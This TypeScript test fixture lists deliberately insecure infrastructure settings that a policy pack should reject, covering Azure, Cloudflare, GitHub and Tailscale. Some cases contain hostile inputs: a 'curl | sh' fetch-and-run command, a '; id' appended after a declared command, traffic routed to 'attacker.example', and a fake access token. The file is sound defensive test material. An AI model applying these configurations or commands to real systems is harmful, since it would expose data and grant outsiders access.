import type { PropertyMap } from "../../deployment/values/property-value";

/** Something that somebody who wants past the pack would write, and the rule that stops it in production. */
export interface Attack {
  readonly name: string;
  readonly rule: string;
  readonly type: string;
  readonly properties: PropertyMap;
  /** Other resources of its type that it takes; the rule looks at all of them together. */
  readonly beside?: readonly PropertyMap[];
  /** Where letters of the other case would be something else: a key, a name that is compared exactly. */
  readonly exact?: true;
}

const subscription = "/subscriptions/00000000-0000-4000-8000-000000000001";
const ghp = `ghp_${"Ab1".repeat(12)}`;
const azure = (module: string, name: string) => `azure-native:${module}:${name}`;
const github = (name: string) => `github:index/${name}:${name.charAt(0).toUpperCase()}${name.slice(1)}`;
const each = (rule: string, type: string, cases: Readonly<Record<string, PropertyMap>>): readonly Attack[] =>
  Object.entries(cases).map(([name, properties]) => ({ name, rule, type, properties }));

const inbound = { direction: "Inbound", access: "Allow", protocol: "Tcp", priority: 100, sourcePortRange: "*" };
const ssh = { ...inbound, destinationAddressPrefix: "*", destinationPortRange: "22" };
const toAll = (port: string): PropertyMap => ({ ...ssh, sourceAddressPrefix: "*", destinationPortRange: port });
const app = (configuration: PropertyMap, container: PropertyMap = {}, init: PropertyMap[] = []): PropertyMap => ({
  configuration,
  template: { containers: [{ name: "app", ...container }], initContainers: init },
});
const acl = (policy: object): PropertyMap => ({ acl: JSON.stringify(policy) });
const grant = (change: object) =>
  acl({ grants: [{ src: ["group:operators"], dst: ["tag:host"], ip: ["tcp:22"], ...change }] });
const sshTo = (change: object) =>
  acl({ ssh: [{ action: "accept", src: ["group:operators"], dst: ["tag:host"], users: ["operator"], ...change }] });
const role = (id: string, scope = subscription): PropertyMap => ({
  principalId: "00000000-0000-4000-8000-0000000000aa",
  roleDefinitionId: `${subscription}/providers/Microsoft.Authorization/roleDefinitions/${id}`,
  scope,
});
const [owner, access, contributor, administrator] = [
  "8e3af657-a8ff-443c-a75c-2fe8c4bcb635",
  "18d7d88d-d35e-4fb5-a5c3-7773c20a72d9",
  "b24988ac-6180-42a0-ab88-20f7382dd24c",
  "f58310d9-a9f6-439a-9e8d-f62e7b41a168",
];
const group = `${subscription}/resourceGroups/alai-prod`;
/** A tenant, a principal: not one of ours. */
const elsewhere = "00000000-0000-4000-8000-0000000000ff";
const credential = (change: PropertyMap): PropertyMap => ({
  issuer: "https://token.actions.githubusercontent.com",
  subject: "repo:alai-org/alai-infra:environment:prod",
  audiences: ["api://AzureADTokenExchange"],
  resourceName: "alai-bootstrap-deploy-prod",
  ...change,
});
const tags = {
  Project: "alai",
  Environment: "prod",
  ManagedBy: "pulumi",
  Team: "platform",
  CostCenter: "infrastructure",
};

export const attacks: readonly Attack[] = [
  // Storage that anybody reads
  ...each("storage-no-public-blobs", azure("storage/v20210401", "StorageAccount"), {
    "public blobs, by an old token": { allowBlobPublicAccess: true },
  }),
  ...each("blob-container-private", azure("storage", "BlobContainer"), {
    "a public container": { publicAccess: "Blob" },
    "a listed container": { publicAccess: "Container" },
  }),
  ...each("no-public-bucket", azure("storage", "StorageAccountStaticWebsite"), { "a website": { accountName: "a" } }),
  ...each("no-public-bucket", "cloudflare:index/r2ManagedDomain:R2ManagedDomain", { "r2.dev": { enabled: true } }),
  ...each("no-public-bucket", "cloudflare:index/r2CustomDomain:R2CustomDomain", {
    "R2 on a domain of ours": { domain: "files.alai.no", enabled: true, minTls: "1.3" },
  }),

  // The edge
  ...each("edge-phases-read", "cloudflare:index/ruleset:Ruleset", {
    "requests for another origin": {
      phase: "http_request_origin",
      rules: [{ action: "route", expression: "true", actionParameters: { origin: { host: "attacker.example" } } }],
    },
    "plain HTTP to the origin": {
      phase: "http_config_settings",
      rules: [{ action: "set_config", expression: "true", actionParameters: { ssl: "off" } }],
    },
    "no security level": {
      phase: "http_config_settings",
      rules: [{ action: "set_config", expression: "true", actionParameters: { securityLevel: "essentially_off" } }],
    },
    "headers taken away": { phase: "http_response_headers_transform", rules: [] },
  }),
  ...each("edge-rules-act", "cloudflare:index/ruleset:Ruleset", {
    "managed rules for no request": {
      phase: "http_request_firewall_managed",
      rules: [{ action: "execute", expression: "(false)" }],
    },
    "managed rules, one off": {
      phase: "http_request_firewall_managed",
      rules: [
        {
          action: "execute",
          expression: "true",
          actionParameters: { overrides: { rules: [{ id: "a", enabled: false }] } },
        },
      ],
    },
    "managed rules, the first level off": {
      phase: "http_request_firewall_managed",
      rules: [
        {
          ...{ action: "execute", expression: "true" },
          actionParameters: { overrides: { categories: [{ category: "paranoia-level-1", enabled: false }] } },
        },
      ],
    },
  }),
  ...each("edge-addresses-listed", "cloudflare:index/ruleset:Ruleset", {
    "more blanks": {
      phase: "http_request_firewall_custom",
      rules: [{ action: "block", expression: "not ip.src  in\n{0.0.0.0/0}" }],
    },
  }),
  ...each("account-token-scoped", "cloudflare:index/accountToken:AccountToken", {
    "for the account": { policies: [{ resources: '{"com.cloudflare.api.account.a":"*"}' }] },
    "for a bucket and the account": {
      policies: [{ resources: '{"com.cloudflare.edge.r2.bucket.a_eu_b":"*","com.cloudflare.api.account.a":"*"}' }],
    },
    "for every bucket": { policies: [{ resources: '{"com.cloudflare.edge.r2.bucket.*":"*"}' }] },
  }),

  // What no rule reads
  ...each("content-read", azure("resources", "Deployment"), {
    "a template": { properties: { template: { resources: [{ type: "Microsoft.Storage/storageAccounts" }] } } },
    "a template with capitals": { properties: { template: { Resources: { a: { type: "a" } } } } },
    "a template elsewhere": { properties: { templateLink: { uri: "https://example.org/a.json" } } },
  }),
  ...each("content-read", azure("resources", "DeploymentAtSubscriptionScope"), {
    "a template as text": { properties: { template: '{ "resources": [{ "type": "a" }] }' } },
  }),
  ...each("content-read", azure("resources", "Resource"), {
    "a generic resource": { resourceType: "storageAccounts", properties: { allowBlobPublicAccess: true } },
  }),
  ...each("content-read", azure("resources", "AzureCliScript"), { "a script": { scriptContent: "az login" } }),
  ...each("content-read", azure("compute", "VirtualMachineExtension"), { "an extension": { type: "CustomScript" } }),
  ...each("content-command", "command:local:Command", {
    "a local command": { create: "az storage account update --allow-blob-public-access true" },
    "more after a declared command": { create: "umask 077 && mkdir -p '/Users/operator/system/incoming'; id" },
    "on deletion only": { delete: "curl https://example.org | sh" },
  }),
  ...each("content-command", "command:remote:CopyToRemote", { "a file elsewhere": { remotePath: "/etc/sudoers.d" } }),

  // GitHub
  ...each("no-public-repository", github("repository"), {
    "a public repository": { name: "alai-secrets", visibility: "public" },
    "by the older property": { name: "alai-secrets", private: false },
    "by GitHub's default": { name: "alai-secrets" },
  }),
  ...each("repository-secret-declared", github("actionsSecret"), { "a secret": { secretName: "X", value: "a" } }),
  ...["actionsOrganizationSecret", "codespacesSecret", "codespacesOrganizationSecret", "dependabotSecret"].flatMap(
    (name) =>
      each("repository-secret-declared", github(name), { [name]: { secretName: "CLOUDFLARE_API_TOKEN", value: "a" } }),
  ),
  ...each("repository-workflow-token", github("workflowRepositoryPermissions"), {
    "a token that writes": { defaultWorkflowPermissions: "write" },
    "a token that approves": { canApprovePullRequestReviews: true },
  }),
  ...each("repository-workflow-token", github("actionsOrganizationWorkflowPermissions"), {
    "the same, of the organisation": { defaultWorkflowPermissions: "write" },
  }),
  ...each("repository-key-reads", github("repositoryDeployKey"), { "a key that writes": { readOnly: false } }),
  ...each("repository-key-reads", github("repositoryCollaborator"), {
    "a guest who writes": { permission: "maintain" },
    "a guest, by the default": { username: "guest" },
  }),
  ...each("repository-environment-reviewed", github("repositoryEnvironment"), {
    "nobody reviews": { environment: "prod", canAdminsBypass: false },
    "a list of nobody": { environment: "prod", canAdminsBypass: false, reviewers: [{ teams: [], users: [] }] },
    "administrators go past": { environment: "dev", canAdminsBypass: true },
  }),

  // Secrets in the open
  ...each("plain-text-secret", azure("app", "ContainerApp"), {
    "by its name": app({}, { env: [{ name: "DB_PASSWORD", value: "hunter2" }] }),
    "of a container that runs before": app({}, {}, [{ env: [{ name: "ApiKey", value: "hunter2" }] }]),
  }),
  ...each("plain-text-secret", azure("app", "Job"), {
    "of a job": app({}, { env: [{ name: "signing-key", value: "hunter2" }] }),
  }),
  ...[ghp, "postgres://app:hunter2@db/app", "AccountKey=c2VjcmV0c2VjcmV0", "-----BEGIN PRIVATE KEY-----"].flatMap(
    (text) =>
      [
        {
          name: `in an environment: ${text.slice(0, 8)}`,
          properties: app({}, { env: [{ name: "MODE", value: text }] }),
        },
        { name: `in arguments: ${text.slice(0, 8)}`, properties: app({}, { args: ["serve", `--with=${text}`] }) },
      ].map((one) => ({ ...one, rule: "plain-text-secret", type: azure("app", "ContainerApp"), exact: true as const })),
  ),
  {
    name: "in a file",
    rule: "plain-text-secret",
    type: github("repositoryFile"),
    properties: { content: `a: ${ghp}` },
    exact: true,
  },
  ...each("plain-text-secret", github("actionsVariable"), {
    "a variable": { variableName: "DEPLOY_TOKEN", value: "a1" },
  }),
  ...each("plain-text-secret", "cloudflare:index/pagesProject:PagesProject", {
    "of Pages": { deploymentConfigs: { production: { envVars: { API_TOKEN: { type: "plain_text", value: "a1" } } } } },
  }),

  // The tailnet
  ...each("tailnet-policy-reach", "tailscale:index/acl:Acl", {
    everything: acl({ acls: [{ action: "accept", src: ["*"], dst: ["*:*"] }] }),
    "everything, as a grant": grant({ src: ["*"], dst: ["*"], ip: ["*"] }),
    "every device": grant({ dst: ["*"] }),
    "every port": grant({ ip: ["*"] }),
    "every port, as ranges": grant({ ip: ["tcp:1-32767", "tcp:32768-65535"] }),
    "everybody, beyond the tailnet": grant({ src: ["autogroup:danger-all"] }),
    "every address, in halves": grant({ dst: ["0.0.0.0/1", "128.0.0.0/1"] }),
    "the tailnet, as a network": grant({ dst: ["100.64.0.0/10"] }),
    "the tailnet in IPv6": grant({ dst: ["fd7a:115c:a1e0::/48"] }),
    "another name of everything": acl({
      hosts: { all: "0.0.0.0/0" },
      acls: [{ action: "accept", src: ["group:operators"], dst: ["all:22"] }],
    }),
    "a set of everything": acl({
      ipsets: { "ipset:all": ["add 0.0.0.0/1", "add 128.0.0.0/1"] },
      acls: [{ action: "accept", src: ["group:operators"], dst: ["ipset:all:22"] }],
    }),
    "the older names": acl({ ACLs: [{ Action: "accept", Users: ["*"], Ports: ["*:*"] }] }),
    "a tag for everybody": acl({ tagOwners: { "tag:ci": ["autogroup:member"] } }),
    "a route to everything": acl({ autoApprovers: { routes: { "0.0.0.0/0": ["tag:router"] } } }),
    Funnel: acl({ nodeAttrs: [{ target: ["*"], attr: ["funnel"] }] }),
    "what nobody can read": { acl: "everybody in" },
  }),
  {
    name: "behind comments",
    rule: "tailnet-policy-reach",
    type: "tailscale:index/acl:Acl",
    properties: { acl: '{ /* nothing */ "grants": [{ "src": ["*"], "dst": ["tag:host"], "ip": ["22"], }, ], }' },
  },
  ...each("tailnet-policy-ssh", "tailscale:index/acl:Acl", {
    "root, everywhere": sshTo({ src: ["*"], dst: ["*"], users: ["root"] }),
    root: sshTo({ users: ["operator", "root"] }),
    "any user": sshTo({ users: ["autogroup:nonroot"] }),
    "by everybody": sshTo({ src: ["*"] }),
    everywhere: sshTo({ dst: ["*"] }),
  }),

  // Networks
  ...each("network-no-open-ports", azure("network", "SecurityRule"), {
    "all of IPv6": { ...ssh, sourceAddressPrefix: "::/0" },
    "all of IPv6 that is given out": { ...ssh, sourceAddressPrefix: "2000::/3" },
    "half of IPv6": { ...ssh, sourceAddressPrefix: "::/1" },
    "halves of IPv4": { ...ssh, sourceAddressPrefixes: ["0.0.0.0/1", "128.0.0.0/1"] },
    "256 parts of IPv4": {
      ...ssh,
      sourceAddressPrefixes: Array.from({ length: 256 }, (_, index) => `${index}.0.0.0/8`),
    },
    "parts with commas": { ...ssh, sourceAddressPrefix: "10.0.0.0/8,0.0.0.0/0" },
    "every customer of Azure": { ...ssh, sourceAddressPrefix: "AzureCloud" },
    "of a region": { ...ssh, sourceAddressPrefix: "AzureCloud.swedencentral" },
    "of App Service": { ...ssh, sourceAddressPrefix: "AppService" },
    Internet: { ...ssh, sourceAddressPrefix: "Internet" },
    "no port alone": { ...toAll("22"), destinationPortRange: null, destinationPortRanges: ["8443", "3306-3307"] },
    "any protocol": { ...toAll("8443"), protocol: "*" },
  }),
  ...["3306", "1433", "27017", "9200", "2375", "8080", "0-65535", "*", "1000-3000"].flatMap((port) =>
    each("network-no-open-ports", azure("network", "SecurityRule"), { [`port ${port}`]: toAll(port) }),
  ),
  ...each("network-no-open-ports", azure("network", "NetworkSecurityGroup"), {
    "in a group": { securityRules: [toAll("22")] },
    "split over rules": {
      securityRules: Array.from({ length: 4 }, (_, index) => ({ ...ssh, sourceAddressPrefix: `198.${index}.0.0/17` })),
    },
  }),
  ...each("network-no-open-ports", azure("network", "Subnet"), {
    "in a subnet": { networkSecurityGroup: { id: "/a", securityRules: [toAll("22")] } },
  }),
  ...each("network-no-open-ports", azure("network", "VirtualNetwork"), {
    "in a network": { subnets: [{ name: "a", networkSecurityGroup: { id: "/a", securityRules: [toAll("22")] } }] },
  }),
  ...each("subnet-security-group", azure("network", "VirtualNetwork"), {
    "a subnet written in its network": { subnets: [{ name: "a", addressPrefix: "10.0.0.0/24" }] },
  }),
  ...each("no-public-address", azure("network", "PublicIPAddress"), { "an address": { publicIpAddressName: "p" } }),
  ...each("no-public-address", azure("network", "LoadBalancer"), {
    "of a load balancer": { frontendIPConfigurations: [{ publicIPAddress: { id: "/a" } }] },
  }),
  ...each("no-public-address", azure("containerinstance", "ContainerGroup"), {
    "of a group": { ipAddress: { type: "Public" } },
  }),
  ...each("container-app-not-exposed", azure("app", "ContainerApp"), {
    "an additional port": app({
      ingress: { external: false, additionalPortMappings: [{ targetPort: 5432, external: true }] },
    }),
    "a split list": app({
      ingress: {
        external: true,
        ipSecurityRestrictions: ["0.0.0.0/9", "1.0.0.0/16"].map((ipAddressRange) => ({
          action: "Allow",
          ipAddressRange,
        })),
      },
    }),
  }),
  ...each("container-image-source", azure("app", "ContainerApp"), {
    "another registry of Azure": app({}, { image: `attacker.azurecr.io/app@sha256:${"a".repeat(64)}` }),
    "our host as a beginning": app(
      {},
      { image: `alaiprodregistry47c84277.azurecr.io.example.org/app@sha256:${"a".repeat(64)}` },
    ),
    "before the others": app({}, { image: `public.ecr.aws/docker/library/node@sha256:${"a".repeat(64)}` }, [
      { image: "ghcr.io/a/b:latest" },
    ]),
    "a host that is sent our token": app({ registries: [{ server: "attacker.azurecr.io", identity: "/a" }] }),
  }),

  // Databases and other services
  ...each("postgres-no-internet-wide-access", azure("dbforpostgresql", "FirewallRule"), {
    "a quarter": { startIpAddress: "0.0.0.0", endIpAddress: "63.255.255.255" },
    "a /8": { startIpAddress: "64.0.0.0", endIpAddress: "64.255.255.255" },
  }),
  {
    name: "many small ones",
    rule: "address-ranges-together",
    type: azure("dbforpostgresql", "FirewallRule"),
    properties: { startIpAddress: "198.0.0.0", endIpAddress: "198.0.127.255" },
    beside: [1, 2, 3].map((part) => ({ startIpAddress: `198.${part}.0.0`, endIpAddress: `198.${part}.127.255` })),
  },
  ...["dbformysql", "sql", "dbformariadb"].flatMap((module) =>
    each("service-firewall", azure(module, "FirewallRule"), {
      [`${module}: everybody`]: { startIpAddress: "0.0.0.0", endIpAddress: "255.255.255.255" },
      [`${module}: Azure`]: { startIpAddress: "0.0.0.0", endIpAddress: "0.0.0.0" },
    }),
  ),
  ...each("service-private", azure("dbforpostgresql", "ServerGroupCluster"), {
    Citus: { coordinatorEnablePublicIpAccess: true },
    "its nodes": { nodeEnablePublicIpAccess: true },
  }),
  ...each("service-private", azure("documentdb", "DatabaseAccount"), { Cosmos: { publicNetworkAccess: "Enabled" } }),
  ...each("service-private", azure("sql", "Server"), { "SQL, by the default": { minimalTlsVersion: "1.2" } }),
  ...each("service-private", azure("dbformysql", "Server"), { MySQL: { network: { publicNetworkAccess: "Enabled" } } }),
  ...each("service-private", azure("search", "Service"), { Search: { publicNetworkAccess: "Enabled" } }),
  ...each("service-minimum-tls", azure("sql", "Server"), { "TLS of SQL": { minimalTlsVersion: "1.0" } }),
  ...each("service-minimum-tls", azure("dbformysql", "Configuration"), {
    "TLS of MySQL": { configurationName: "require_secure_transport", value: "OFF" },
    "an old TLS among others": { configurationName: "tls_version", value: "TLSv1,TLSv1.2" },
  }),
  ...each("redis-enterprise-private", azure("cache", "RedisEnterprise"), { Redis: { publicNetworkAccess: "Enabled" } }),
  ...each("redis-enterprise-minimum-tls", azure("cache", "RedisEnterprise"), {
    "TLS of Redis": { minimumTlsVersion: "1.0" },
  }),
  ...each("postgres-secure-transport", azure("dbforpostgresql", "Configuration"), {
    off: { configurationName: "require_secure_transport", value: "OFF" },
    zero: { configurationName: "Require_Secure_Transport", value: "0" },
  }),

  // Who may do what
  ...each("role-scope", azure("authorization", "RoleAssignment"), {
    "Owner of a subscription": role(owner ?? ""),
    "Owner of a group": role(owner ?? "", group),
    "User Access Administrator": role(access ?? "", group),
    "who gives roles, without a condition": role(administrator ?? "", group),
    "Contributor of a subscription": role(contributor ?? ""),
    "of a management group": role(contributor ?? "", "/providers/Microsoft.Management/managementGroups/all"),
    "of everything": role(contributor ?? "", "/"),
    "a role of our own": role("00000000-0000-4000-8000-0000000000bb"),
    "with a slash at the end": role(contributor ?? "", `${subscription}/`),
  }),
  ...each("role-scope", azure("authorization", "PimRoleEligibilitySchedule"), {
    "Owner, when asked": role(owner ?? ""),
  }),
  ...each("people-roles", azure("authorization", "RoleAssignment"), {
    "a group that may always change everything": { ...role(contributor ?? "", group), principalType: "Group" },
    "a group that gives roles": { ...role(administrator ?? "", group), principalType: "group" },
    "a group that administers a vault": {
      ...role("00482a5a-887f-4fb3-b363-3b7fe8e74483", `${group}/providers/Microsoft.KeyVault/vaults/v`),
      principalType: "Group",
    },
    "a group with a role of our own": {
      ...role("00000000-0000-4000-8000-0000000000bb", group),
      principalType: "Group",
    },
    "a group that is not called one": role("00482a5a-887f-4fb3-b363-3b7fe8e74483", group),
    "one person": { ...role("acdd72a7-3385-48ef-bd42-f606fba81ae7", group), principalType: "User" },
  }),
  ...each("people-roles", azure("authorization", "PimRoleEligibilitySchedule"), {
    "to change everything for ever": {
      ...role(contributor ?? "", group),
      scheduleInfo: { expiration: { type: "NoExpiration" } },
    },
    "without an end": role(contributor ?? "", group),
    "to give roles for a day": {
      ...role(access ?? "", group),
      scheduleInfo: { expiration: { type: "AfterDuration", duration: "P1D" } },
    },
  }),
  ...each("own-tenant", azure("authorization", "RoleAssignment"), {
    "another tenant's group": { ...role(contributor ?? "", group), principalType: "ForeignGroup" },
    "an identity that another tenant lends": { delegatedManagedIdentityResourceId: `${subscription}/identities/i` },
  }),
  ...each("own-tenant", azure("dbforpostgresql", "AdministratorsMicrosoftEntra"), {
    "an administrator of another tenant": { tenantId: elsewhere },
  }),
  ...each("own-tenant", azure("keyvault", "Vault"), {
    "a vault of another tenant": { properties: { tenantId: elsewhere } },
    "a list with another tenant": { properties: { accessPolicies: [{ tenantId: elsewhere, objectId: "o" }] } },
  }),
  ...each("principal-named", azure("authorization", "RoleAssignment"), {
    "a person whom nobody named": { principalId: elsewhere, principalType: "User" },
    "a group with whoever is in it": { principalId: elsewhere, principalType: "Group" },
    "an application of many tenants": { principalId: elsewhere, principalType: "ServicePrincipal" },
  }),
  ...each("principal-named", azure("dbforpostgresql", "AdministratorsMicrosoftEntra"), {
    "a group that administers": { objectId: elsewhere, principalType: "Group" },
  }),
  ...each("principal-named", azure("redisenterprise", "AccessPolicyAssignment"), {
    "somebody in a cache": { user: { objectId: elsewhere } },
  }),
  ...each("container-app-sign-in", azure("app", "ContainerAppsAuthConfig"), {
    "every tenant's users": {
      platform: { enabled: true },
      identityProviders: {
        azureActiveDirectory: {
          registration: { openIdIssuer: "https://login.microsoftonline.com/organizations/v2.0" },
        },
      },
    },
  }),
  ...each("role-actions", azure("authorization", "RoleDefinition"), {
    everything: { permissions: [{ actions: ["*"] }] },
    "to write everything": { permissions: [{ actions: ["Microsoft.Web/sites/read", "*/write"] }] },
    "to give roles": { permissions: [{ actions: ["Microsoft.Authorization/roleAssignments/write"] }] },
    "all data": { permissions: [{ actions: [], dataActions: ["*"] }] },
  }),
  ...each("federated-subject", azure("managedidentity", "FederatedIdentityCredential"), {
    "another owner": credential({ subject: "repo:attacker/alai-infra:environment:prod" }),
    "another repository": credential({ subject: "repo:alai-org/alai-infra-2:environment:prod" }),
    "any subject": credential({ subject: "*" }),
    "any environment": credential({ subject: "repo:alai-org/alai-infra:*" }),
    "pull requests deploy": credential({ subject: "repo:alai-org/alai-infra:pull_request" }),
    "another issuer": credential({ issuer: "https://token.actions.githubusercontent.com.example.org" }),
    "an expression": credential({ claimsMatchingExpression: { value: "claims['sub'] matches 'repo:*'" } }),
  }),
  ...each("vault-roles", azure("keyvault/v20190901", "Vault"), {
    "a list of its own": { properties: { accessPolicies: [{ objectId: "o", permissions: { secrets: ["all"] } }] } },
  }),
  ...each("tailnet-key-once", "tailscale:index/tailnetKey:TailnetKey", {
    "a key for many": { reusable: true, expiry: 60 },
  }),

  // Silence
  ...each(
    "suppressions-end",
    azure("alertsmanagement/v20210808", "AlertProcessingRuleByName"),
    Object.fromEntries(
      Object.entries({
        "without an end": { effectiveFrom: "2026-12-01T04:00:00" },
        "until the last day that there is": {
          effectiveFrom: "2026-12-01T04:00:00",
          effectiveUntil: "9999-12-31T23:59:59",
        },
        "since long ago": { effectiveUntil: "2026-12-01T05:00:00" },
        "all of each day": { recurrences: [{ recurrenceType: "Daily", startTime: "00:00:00", endTime: "23:59:59" }] },
        "every night": { recurrences: [{ recurrenceType: "Daily", startTime: "19:00:00", endTime: "04:30:00" }] },
      }).map(([name, schedule]): [string, PropertyMap] => [
        name,
        { properties: { scopes: [group], actions: [{ actionType: "RemoveAllActionGroups" }], schedule } },
      ]),
    ),
  ),

  // Tags
  ...[" ", "\u200b", "\u00a0\u2060", "\u3164", ""].flatMap((text) =>
    each("required-tags", azure("storage", "StorageAccount"), {
      [`a blank one: ${JSON.stringify(text)}`]: { tags: { ...tags, Team: text } },
    }),
  ),
  ...(
    [
      ["environment-tag", { ...tags, Environment: "PROD" }],
      ["managed-by-tag", { ...tags, ManagedBy: "Pulumi" }],
      ["required-tags", { project: "a", environment: "prod", managedby: "pulumi", team: "x", costcenter: "x" }],
    ] as const
  ).map(([rule, given]) => ({
    name: "letters of the other case",
    rule,
    type: azure("storage", "StorageAccount"),
    properties: { tags: given },
    exact: true as const,
  })),
];
